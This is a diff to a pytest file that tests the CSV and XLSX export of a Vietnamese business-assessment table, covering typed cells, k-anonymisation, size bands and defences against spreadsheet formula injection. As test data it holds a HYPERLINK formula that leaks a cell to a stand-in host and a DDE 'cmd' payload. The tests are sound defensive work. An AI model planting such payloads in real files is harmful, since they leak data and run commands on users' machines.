@@ -1,14 +1,23 @@
 """The province table (CSV with BOM, XLSX, anonymised) and the peer benchmark."""
 
 import csv
+import datetime
 from dataclasses import replace
 
 import pytest
+from hypothesis import given, settings, strategies as st
 
+from cds_desktop.domain.assessment import Assessor
+from cds_desktop.domain.business import Business, business_problems
+from cds_desktop.domain.schema import schema_problems
+from cds_desktop.errors import InputError
 from cds_desktop.storage import Repository
 from cds_desktop.storage.benchmark import MIN_SAMPLE, benchmark
-from cds_desktop.storage.table import export_table
+from cds_desktop.storage.spreadsheet import csv_cell
+from cds_desktop.storage.table import K, _k_anonymous, export_table
 from storage_support import completed, draft
+
+FORMULA = '=HYPERLINK("http://x.example/?leak="&A2,"Click")'
 
 
 @pytest.fixture
@@ -30,36 +39,194 @@ def read_csv(path):
         return list(csv.DictReader(fh))
 
 
+def read_xlsx(path, sheet=0):
+    from openpyxl import load_workbook
+    book = load_workbook(path)
+    return book.worksheets[sheet], book
+
+
 def test_the_csv_opens_with_correct_vietnamese(repo, tmp_path):
-    assert export_table(repo, tmp_path / "t.csv", "csv") == 3
+    assert len(export_table(repo, tmp_path / "t.csv", "csv").rows) == 3
     rows = read_csv(tmp_path / "t.csv")
     workshop_rows = [r for r in rows if r["Tên cơ sở"] == "Xưởng mộc Cam Lộ"]
     assert [r["Đợt"] for r in workshop_rows] == ["T0", "T1"]
     assert workshop_rows[0]["Khu vực ngành"] == "Công nghiệp và xây dựng"
     assert workshop_rows[0]["Xã/phường"] == "Cam Lộ" and workshop_rows[0]["Quy mô"] == "Nhỏ"
     assert workshop_rows[1]["Mức tổng thể"] == "4" and workshop_rows[1]["business — điểm"] == "80.0"
+    assert workshop_rows[1]["data — mức"] == "4" and workshop_rows[1]["q_customer"] == "4"  # pillar, question
+    assert workshop_rows[0]["Doanh thu năm (đồng)"] == "12000000000"  # never 1.2E+10
+    assert {r["Mã lần xuất"] for r in rows} != {""} and [r["Số dòng"] for r in rows] == ["1", "2", "3"]
 
 
-def test_anonymize_drops_name_tax_code_contact_and_address(repo, tmp_path):
-    export_table(repo, tmp_path / "t.csv", "csv", lang="en", anonymize=True)
+def test_the_named_xlsx_has_typed_cells_a_frozen_header_and_a_column_sheet(repo, tmp_path):
+    table = export_table(repo, tmp_path / "t.xlsx", "xlsx", lang="en")
+    sheet, book = read_xlsx(tmp_path / "t.xlsx")
+    header = [c.value for c in sheet[1]]
+    row = next({h: c for h, c in zip(header, r)} for r in sheet.iter_rows(min_row=2) if r[3].value == "Xưởng mộc Cam Lộ")
+    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["C"].width > 10
+    assert row["Tax code"].value == "3200123456" and row["Tax code"].data_type == "s"
+    assert row["Tax code"].number_format == "@"  # a leading zero would stay
+    assert row["Annual revenue (VND)"].value == 12_000_000_000 and row["Annual revenue (VND)"].number_format == "#,##0"
+    assert row["Overall score"].data_type == "n" and row["Overall score"].number_format == "0.0"
+    assert row["Overall level"].value == 2
+    assert row["Assessed on"].value.date() == datetime.date.today() and row["Assessed on"].is_date
+    assert row["Instrument version"].value == "1.0" and "national@" in row["Policy catalog versions"].value
+    columns = book.worksheets[1]
+    keys = [r[1] for r in columns.iter_rows(values_only=True)]
+    assert all(c.key in keys for c in table.columns)  # every column explained
+
+
+def _hostile_repo(tmp_path, instrument, workshop, count=K):
+    """`count` businesses with formula-like text everywhere a user can type."""
+    repo = Repository(tmp_path / "hostile")
+    for i in range(count):
+        b = repo.add_business(replace(workshop, name=f"{FORMULA} {i}", industry="=1+2", tax_code="",
+                                      province="+Tỉnh", commune="@SUM(A1)", address="-2+3"))
+        assessment = replace(completed(instrument, workshop), assessor=Assessor("-Cô Lan", "=cmd|' /C calc'!A0"))
+        repo.save_assessment(b.id, assessment)
+    return repo
+
+
+@pytest.mark.parametrize("anonymize", [False, True])
+def test_formula_text_is_never_a_formula_in_xlsx(tmp_path, installed_mini, workshop, anonymize):
+    with _hostile_repo(tmp_path, installed_mini, workshop) as repo:
+        export_table(repo, tmp_path / "t.xlsx", "xlsx", anonymize=anonymize)
+    sheet, _ = read_xlsx(tmp_path / "t.xlsx")
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+    formula_like = [c for c in cells if c.value[:1] in "=+-@"]
+    assert formula_like and all(c.data_type == "s" for c in formula_like)
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    values = {c.value for c in formula_like}
+    assert values >= {"@SUM(A1)", "=cmd|' /C calc'!A0", "+Tỉnh"}
+    assert (f"{FORMULA} 0" in values) != anonymize  # the name is only in the named table
+
+
+@pytest.mark.parametrize("anonymize", [False, True])
+def test_formula_text_is_prefixed_in_csv(tmp_path, installed_mini, workshop, anonymize):
+    with _hostile_repo(tmp_path, installed_mini, workshop) as repo:
+        export_table(repo, tmp_path / "t.csv", "csv", anonymize=anonymize)
+    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as fh:
+        cells = [v for row in csv.reader(fh) for v in row]
+    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")]
+    assert "'@SUM(A1)" in cells and "'+Tỉnh" in cells
+    if not anonymize:
+        assert f"'{FORMULA} 0" in cells and "'=1+2" in cells and "'-2+3" in cells and "'-Cô Lan" in cells
+
+
+def test_csv_cells_that_would_run_get_an_apostrophe_but_numbers_do_not():
+    for text in ("=1+2", "+84", "-x", "@SUM(A1)", "\tx", "\rx"):
+        assert csv_cell(text) == "'" + text
+    assert csv_cell(-5) == "-5" and csv_cell(2.5) == "2.5" and csv_cell("Đông Hà") == "Đông Hà"
+
+
+def test_control_characters_in_a_name_or_address_do_not_break_the_xlsx(tmp_path, installed_mini, workshop):
+    with Repository(tmp_path / "store") as repo:
+        b = repo.add_business(replace(workshop, name="Xưởng\x0b mộc\x1b[31m", address="Km\x00 5\x7f"))
+        repo.save_assessment(b.id, completed(installed_mini, workshop))
+        export_table(repo, tmp_path / "t.xlsx", "xlsx")
+        export_table(repo, tmp_path / "t.csv", "csv")
+    sheet, _ = read_xlsx(tmp_path / "t.xlsx")
+    values = [c.value for c in sheet[2]]
+    assert "Xưởng mộc[31m" in values and "Km 5" in values
+    assert "Xưởng mộc[31m" in (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
+
+
+def test_an_unreal_revenue_is_refused_and_a_stored_one_fails_the_export_naming_the_business(
+        tmp_path, installed_mini, workshop):
+    assert [p.where for p in business_problems(replace(workshop, annual_revenue_vnd=10**400))] == [
+        "business.annual_revenue_vnd"]
+    assert [p.where for p in business_problems(replace(workshop, employees=5_000_000))] == ["business.employees"]
+    doc = {"business": {**workshop.to_json(), "total_capital_vnd": 10**400}}
+    assert any("total_capital_vnd" in p.where for p in schema_problems(doc, "assessment.schema.json"))
+    with Repository(tmp_path / "store") as repo:
+        b = repo.add_business(workshop)
+        repo.save_assessment(b.id, completed(installed_mini, workshop))
+        record = dict(repo._raw("businesses")[b.id], annual_revenue_vnd=10**400)  # as an old version stored it
+        repo._put("businesses", b.id, record)
+        for fmt in ("csv", "xlsx"):
+            with pytest.raises(InputError) as caught:
+                export_table(repo, tmp_path / f"t.{fmt}", fmt, anonymize=fmt == "xlsx")
+            message = caught.value.render("en")
+            assert "Xưởng mộc Cam Lộ" in message and "annual_revenue_vnd" in message and "Too large" in message
+            assert not (tmp_path / f"t.{fmt}").exists()
+
+
+def _business(i, commune, sector="trade_services", entity="household"):
+    return Business(name=f"Cơ sở {i}", entity_type=entity, sector=sector, employees=3,
+                    annual_revenue_vnd=800_000_000 + i * 1_000_000, commune=commune, industry=f"Bán bánh {i}")
+
+
+def test_the_anonymised_table_is_k_anonymous_and_says_what_it_removed(tmp_path, installed_mini):
+    # 5 shops in Đông Hà (kept), 3 + 3 in Cam Lộ and Gio Linh (6 province-wide: generalised),
+    # 2 cooperatives (suppressed even province-wide); one business has a T1.
+    layout = ([("Đông Hà", "household")] * 5 + [("Cam Lộ", "household")] * 3 + [("Gio Linh", "household")] * 3
+              + [("Cam Lộ", "cooperative")] * 2)
+    with Repository(tmp_path / "store") as repo:
+        for i, (commune, entity) in enumerate(layout):
+            b = repo.add_business(_business(i, commune, entity=entity))
+            repo.save_assessment(b.id, completed(installed_mini, b))
+            if i == 0:
+                repo.save_assessment(b.id, completed(installed_mini, b, stage="T1"))
+        table = export_table(repo, tmp_path / "t.xlsx", "xlsx", lang="en", anonymize=True)
+        export_table(repo, tmp_path / "t.csv", "csv", lang="en", anonymize=True)
+    assert (table.generalised, table.suppressed, len(table.rows)) == (6, 2, 12)
     rows = read_csv(tmp_path / "t.csv")
-    text = (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
-    for identifying in ("Xưởng mộc", "3200123456", "Anh Hùng", "0905111222", "Km 5"):
-        assert identifying not in text
-    for column in ("Business name", "Tax code", "Contact name", "Phone", "Email", "Address"):
-        assert column not in rows[0]
-    assert all(r["Commune"] and r["Sector"] for r in rows)
-    assert [bool(r["Overall level"]) for r in rows].count(True) == 2  # the draft is provisional: no level
+    groups = {}
+    for r in rows:
+        key = (r["Province"], r["Commune"], r["Sector"], r["Size class"], r["Entity type"])
+        groups.setdefault(key, set()).add(r["Business key (this export)"])
+    assert all(len(keys) >= K for keys in groups.values())
+    assert sorted(r["Commune"] for r in rows).count("") == 6
+    assert {r["Rows suppressed (this export)"] for r in rows} == {"2"}
+    _, book = read_xlsx(tmp_path / "t.xlsx")
+    notes = [r[0] for r in book.worksheets[1].iter_rows(values_only=True)]
+    assert any("6 rows generalised to the province, 2 rows suppressed" in (n or "") for n in notes)
 
 
-def test_the_xlsx_is_readable_with_openpyxl(repo, tmp_path):
-    from openpyxl import load_workbook
-    export_table(repo, tmp_path / "t.xlsx", "xlsx")
-    sheet = load_workbook(tmp_path / "t.xlsx", read_only=True).active
-    table = list(sheet.values)
-    assert len(table) == 4 and "Tên cơ sở" in table[0]
-    names = {row[table[0].index("Tên cơ sở")] for row in table[1:]}
-    assert names == {"Xưởng mộc Cam Lộ", "Tạp hóa Đông Hà"}
+def test_anonymised_ids_are_new_for_each_export_and_name_nothing_stored(tmp_path, installed_mini):
+    with Repository(tmp_path / "store") as repo:
+        for i in range(6):
+            b = repo.add_business(_business(i, "Đông Hà"))
+            repo.save_assessment(b.id, completed(installed_mini, b))
+        stored_ids = [b.id for b in repo.businesses()] + [s.id for s in repo.summaries()]
+        first = export_table(repo, tmp_path / "a.csv", "csv", anonymize=True)
+        second = export_table(repo, tmp_path / "b.csv", "csv", anonymize=True)
+    assert first.export_id != second.export_id
+    text = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
+    for secret in (*stored_ids, "Cơ sở", "Bán bánh", "800000000", "801000000"):
+        assert secret not in text
+    rows = read_csv(tmp_path / "a.csv")
+    assert {r["Nhóm doanh thu"] for r in rows} == {"0–1 tỷ"} and {r["Khu vực ngành"] for r in rows} == {
+        "Thương mại và dịch vụ"}
+    assert len({r["Mã cơ sở (lần xuất)"] for r in rows}) == 6
+
+
+_ROW = st.fixed_dictionaries({
+    "province": st.sampled_from(["Quảng Trị", "Huế"]), "commune": st.sampled_from(["A", "B", "C", "D"]),
+    "sector": st.sampled_from(["s1", "s2"]), "_size": st.sampled_from(["micro", "small"]),
+    "entity_type": st.sampled_from(["household", "enterprise"]), "_business": st.integers(0, 60)})
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(_ROW, max_size=80))
+def test_every_kept_group_has_at_least_k_businesses(rows):
+    by_business = {}
+    for r in rows:  # a business has one profile whatever its stages
+        by_business.setdefault(r["_business"], r)
+    rows = [dict(by_business[r["_business"]]) for r in rows]
+    kept, generalised, suppressed = _k_anonymous([dict(r) for r in rows])
+    assert len(kept) + suppressed == len(rows) and generalised == sum(r["commune_generalised"] for r in kept)
+    groups = {}
+    for r in kept:
+        groups.setdefault((r["province"], r["commune"], r["sector"], r["_size"], r["entity_type"]),
+                          set()).add(r["_business"])
+    assert all(len(b) >= K for b in groups.values())
+
+
+def test_size_bands_hide_the_figures():
+    from cds_desktop.storage.table import employee_band, money_band
+    assert [employee_band(n) for n in (None, 0, 7, 10, 99, 250)] == ["", "0", "1–9", "10–49", "50–99", "≥ 200"]
+    assert [money_band(v) for v in (2_999_999_999, 3_000_000_000, 400 * 10**9)] == ["1–3 tỷ", "3–10 tỷ", "≥ 300 tỷ"]
 
 
 def _peers(repo, instrument, business, count, level=3):
